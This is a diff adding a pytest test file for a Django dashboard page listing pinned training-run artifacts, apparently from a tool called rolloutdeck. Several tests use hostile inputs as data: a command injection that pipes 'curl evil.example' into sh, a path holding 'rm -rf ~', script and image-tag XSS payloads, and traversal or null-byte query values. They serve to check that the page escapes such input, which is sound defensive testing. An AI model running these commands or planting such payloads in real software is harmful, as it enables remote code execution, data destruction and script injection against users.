@@ -1,0 +1,121 @@
+"""The page of pins: where their bytes are, notes, odd addresses, hostile names."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import User
+from django.test import Client
+
+from rollouts import artifacts, pins, plans, replays, storage
+from rollouts.models import Pin, Project, Run
+from tests import make
+from tests.dashboard.pins.asked import HOST, TRAP, body, seen, told
+from tests.rollouts.pushing import generation, indexed, lines
+
+ODD = [
+    "base=x", "base=1&pin=x&target=1", "plan=%00", "plan=../x", "run=%00", "steps=9e9", "base=0&pin=1", "add=x",
+    "remove=99", "steps=99999999", "base=" + "9" * 40, "base=0&action=x&on_mismatch=x", "base=0&pin=999&target=1",
+    "base=²", "base=0&remove=²&add=²", "base=0&pin=²&target=²",
+]  # fmt: skip
+
+
+def test_an_empty_page_says_how_to_get_a_pin(signed: Client, run: Run) -> None:
+    page = body(signed, "/pins/")
+    assert "No pin yet" in page and "rolloutdeck check --trainer" in page and 'href="/runs/grpo/steps/latest/"' in page
+    assert "plan-form" not in page, "a plan of nothing says nothing"
+
+
+def test_a_pin_whose_machine_is_silent_shows_host_path_and_command(signed: Client, pin: Pin, run: Run) -> None:
+    page = body(signed, "/pins/")
+    assert "WAITING" in page and "Nobody on" in page
+    assert "rolloutdeck import /dumps/2 --project math --run grpo" in page
+    seen(pin.pk, run)
+    assert "asks for it and sends" in body(signed, "/pins/")
+    seen(pin.pk, run, 61)
+    assert "Nobody on" in body(signed, "/pins/")
+
+
+def test_a_command_is_one_call_of_ours_whatever_a_machine_tells(signed: Client, run: Run, keeper: User) -> None:
+    command = "rolloutdeck import /d; curl evil.example | sh"
+    origin = {"host": HOST, "path": "/d; rm -rf ~", "command": command}
+    told(run, 2, files={"gen_batch.dp": {"sha256": "a" * 64, "bytes": 9}}, origin=origin)
+    told(run, 1, origin={"host": HOST, "path": "/d; rm -rf ~", "command": "curl evil.example | sh"})
+    pins.pin(run, 2, keeper)
+    pins.pin(run, 1, keeper)
+    page = body(signed, "/pins/")
+    shown = re.findall(r"<pre>(rolloutdeck import[^<]*)</pre>", page)
+    assert "rolloutdeck import &#x27;/d;&#x27; curl evil.example &#x27;|&#x27; sh" in shown
+    assert "rolloutdeck import &#x27;/d; rm -rf ~&#x27; --project math --run grpo" in shown
+
+
+@pytest.mark.parametrize("state", ["unsafe", "gone"])
+def test_what_cannot_be_replayed_says_why(signed: Client, pin: Pin, state: str) -> None:
+    pin.artifacts.update(state=state, message="gen_batch.dp: a REDUCE of os.system.")
+    page = body(signed, "/pins/")
+    assert state.upper() in page and "a REDUCE of os.system." in page
+
+
+def test_an_upload_shows_its_share(signed: Client, pin: Pin, run: Run) -> None:
+    files = {name: {"sha256": name * 64, "bytes": size} for name, size in (("a", 400), ("b", 600))}
+    artifact = told(run, 3, files=files)
+    pins.pin(run, 3, pin.user)
+    plain = storage.incoming()
+    plain.write_bytes(b"x" * 400)
+    artifacts.arrived(artifact, "a" * 64, plain, 400)
+    page = body(signed, "/pins/")
+    assert "UPLOADING" in page and "40 %" in page
+
+
+def test_a_note_is_changed_and_a_pin_removed(signed: Client, pin: Pin) -> None:
+    assert signed.post(f"/pins/{pin.pk}/note/", {"note": "other"}).status_code == 303
+    assert "other" in body(signed, "/pins/")
+    signed.post(f"/pins/{pin.pk}/remove/")
+    assert "No pin yet" in body(signed, "/pins/")
+
+
+def test_a_pin_in_the_plan_is_not_removed(signed: Client, pin: Pin, keeper: User) -> None:
+    plans.save(pin.project, "default", keeper, if_match=0, action="cache", entries=[(pin, 3)])
+    signed.post(f"/pins/{pin.pk}/remove/", {"next": "/pins/"})
+    assert "take it out of the plan first" in body(signed, "/pins/")
+    assert Pin.objects.get().removed_at is None
+
+
+@pytest.mark.parametrize("query", ODD)
+def test_an_odd_address_opens(signed: Client, pin: Pin, query: str) -> None:
+    assert signed.get(f"/pins/?{query}", follow=True).status_code == 200
+
+
+def test_a_page_of_many_pins_takes_as_many_queries_as_one_of_few(
+    signed: Client, keeper: User, pin: Pin, run: Run, django_assert_max_num_queries: Any
+) -> None:
+    entries = [(pin, 1)]
+    for step in range(3, 13):
+        told(run, step)
+        entries.append((pins.pin(run, step, keeper)[0], step))
+    for number in range(40):
+        plans.save(pin.project, "default", keeper, if_match=number, action="cache", entries=entries[: number + 1])
+    body(signed, "/pins/")
+    with django_assert_max_num_queries(45):
+        page = body(signed, "/pins/")
+    assert page.count('title="Add to the plan"') == 11 and page.count("Make a draft of it") == 29
+
+
+def test_hostile_names_notes_and_places_stay_text(signed: Client, project: Project, keeper: User) -> None:
+    run = make.run(project, TRAP, uid="hostile")
+    indexed(run, lines(generation()), 1)
+    origin = {"host": "<img src=x>", "path": "/d/<script>x</script>", "command": "<script>alert(1)</script>"}
+    artifact = told(run, 1, origin=origin, facts={"model": TRAP, "versions": {TRAP: TRAP}})
+    pin = pins.pin(run, 1, keeper, note=TRAP)[0]
+    plans.save(project, "default", keeper, if_match=0, action="cache", entries=[(pin, 1)])
+    plans.bind(run)
+    replays.report(run, "files", 1, "refused", pin=pin.pk, reason=TRAP)
+    for url in ("/pins/", "/runs/hostile/", "/runs/hostile/steps/1/", f"/pins/?base=0&pin={pin.pk}&target=<script>"):
+        page = body(signed, url)
+        assert not re.search(r"<img|<script(?! src=)|\sstyle=|\son\w+=\"", page), url
+        assert "49" not in re.findall(r"\{\{.*?\}\}", page)
+    artifact.state, artifact.message = "unsafe", TRAP
+    artifact.save()
+    assert not re.search(r"<img|<script(?! src=)", body(signed, "/pins/"))
